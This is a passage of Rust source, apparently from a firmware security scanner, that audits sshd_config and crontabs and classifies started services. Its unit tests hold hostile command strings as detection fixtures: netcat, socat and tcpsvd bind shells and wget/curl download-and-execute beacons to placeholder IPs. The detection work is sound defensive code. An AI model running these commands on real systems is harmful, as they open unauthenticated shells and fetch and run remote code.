        // default to OpenSSH's upstream values: keyboard-interactive yes, UsePAM no).
        let mut keyboard = true;
        let mut pam = false;
        let mut keys_only = false;
        for (n, line) in script_lines(&text) {
            let w = words(line);
            match (w.first().map(|s| s.to_ascii_lowercase()), w.get(1)) {
                (Some(k), Some(v)) if k == "permitrootlogin" && root_login.is_none() => {
                    root_login = Some((v.clone(), n))
                }
                (Some(k), Some(v)) if k == "passwordauthentication" => password = v == "yes",
                (Some(k), Some(v))
                    if k == "kbdinteractiveauthentication"
                        || k == "challengeresponseauthentication" =>
                {
                    keyboard = v == "yes"
                }
                (Some(k), Some(v)) if k == "usepam" => pam = v == "yes",
                (Some(k), Some(_)) if k == "authenticationmethods" => {
                    // Every listed method list uses public keys only.
                    keys_only = w[1..].iter().all(|list| {
                        list.split(',')
                            .all(|m| m == "publickey" || m.starts_with("publickey:"))
                    })
                }
                (Some(k), _) if k == "match" => break,
                _ => {}
            }
        }
        // OpenSSH's daemons of this root take their authentication from this file: keys only
        // when neither passwords nor keyboard-interactive logins are allowed.
        let asks_password = password || (keyboard && pam);
        if keys_only || !asks_password {
            for s in ctx.services.iter_mut().filter(|s| {
                s.name == "ssh"
                    && s.binary
                        .as_deref()
                        .is_some_and(|b| b == "sshd" || b.ends_with("/sshd"))
            }) {
                s.authentication = "key".into();
            }
        }
        if let Some((v, n)) = root_login
            && v == "yes"
            && password
        {
            sink.hit(
                Hit::new(
                    &SSH_ROOT_PASSWORD,
                    &path,
                    "sshd_config",
                    format!("PermitRootLogin {v}"),
                )
                .line(n),
            );
        }
    }
    // Crontabs: beacons.
    let mut crons: Vec<&netvet_unpack::Entry> = Vec::new();
    for dir in [
        "etc/crontabs",
        "etc/cron.d",
        "var/spool/cron/crontabs",
        "var/spool/cron",
    ] {
        crons.extend(
            files_under(tree, root, dir)
                .into_iter()
                .filter(|e| e.kind == EntryKind::File),
        );
    }
    if let Some(e) = tree.resolve(&format!("{root}!/etc/crontab")) {
        crons.push(e);
    }
    for e in crons {
        let Ok(b) = tree.read(e) else { continue };
        let text = String::from_utf8_lossy(&b);
        for (n, line) in script_lines(&text) {
            // Five time fields (or @reboot), optionally a user, then the command.
            let w: Vec<&str> = line.split_whitespace().collect();
            let skip = if w.first().is_some_and(|x| x.starts_with('@')) {
                1
            } else {
                5
            };
            if w.len() <= skip {
                continue;
            }
            let cmd = w[skip..].join(" ");
            ctx.command_line(&cmd, "cron", &e.path, n);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn started(line: &str) -> Vec<Started> {
        commands(line)
            .iter()
            .filter_map(|c| {
                let (p, a) = program(c)?;
                classify(&p, &a, "test", Location::default())
            })
            .collect()
    }

    #[test]
    fn telnetd_with_a_shell_is_unauthenticated() {
        let s = started("/usr/sbin/telnetd -F -l /bin/sh -p 2323 &");
        assert_eq!(s.len(), 1);
        assert!(s[0].unauth_shell);
        assert_eq!(s[0].service.name, "telnet");
        assert_eq!(
            s[0].service.ports,
            [Port {
                number: 2323,
                protocol: Protocol::Tcp
            }]
        );
        let s = started("busybox telnetd -l /bin/login");
        assert!(!s[0].unauth_shell);
    }

    #[test]
    fn netcat_socat_and_tcpsvd_shells() {
        assert!(started("nc -l -p 4444 -e /bin/sh")[0].unauth_shell);
        assert!(started("socat TCP-LISTEN:5555,reuseaddr,fork EXEC:/bin/bash")[0].unauth_shell);
        let s = started("tcpsvd -vE 0.0.0.0 6000 /bin/sh");
        assert!(s[0].unauth_shell);
        assert_eq!(s[0].service.ports[0].number, 6000);
        assert!(started("nc example.org 80").is_empty());
    }

    #[test]
    fn dropbear_flags_decide_root_password_login() {
        assert!(started("/usr/sbin/dropbear -p 22 -r /etc/key")[0].root_password_login);
        assert!(!started("dropbear -w -p 22")[0].root_password_login);
        assert_eq!(started("dropbear -s")[0].service.authentication, "key");
        let s = started("start-stop-daemon -S -b -x /usr/sbin/dropbear -- -p 2222");
        assert_eq!(s[0].service.ports[0].number, 2222);
    }

    #[test]
    fn unknown_listeners_are_inventoried() {
        let s = started("/usr/bin/ru-oam --listen 0.0.0.0:830");
        assert_eq!(s[0].service.name, "ru-oam");
        assert_eq!(s[0].service.ports[0].number, 830);
        let s =
            started("/usr/bin/nc-amf --sbi-listen 10.10.0.5:8443 --ngap-listen=10.20.0.5:38412");
        let ports: Vec<u16> = s[0].service.ports.iter().map(|p| p.number).collect();
        assert_eq!(ports, [8443, 38412]);
        assert!(started("mount -t proc proc /proc").is_empty());
    }

    #[test]
    fn beacons_are_download_and_execute() {
        let line = "wget -q -O - http://203.0.113.50/ru/cmd | sh";
        assert_eq!(
            beacon_url(&commands(line), line).as_deref(),
            Some("http://203.0.113.50/ru/cmd")
        );
        let line = "wget -q http://example.org/firmware.bin -O /tmp/fw.bin";
        assert!(beacon_url(&commands(line), line).is_none());
        let line = "curl -s http://198.51.100.7/x -o /tmp/x; chmod +x /tmp/x; /tmp/x";
        assert!(beacon_url(&commands(line), line).is_some());
    }

    #[test]
    fn words_respect_quotes_and_comments() {
        assert_eq!(words(r#"a "b c" 'd' # e"#), ["a", "b c", "d"]);
        assert_eq!(words("x=''"), ["x="]);
    }
}
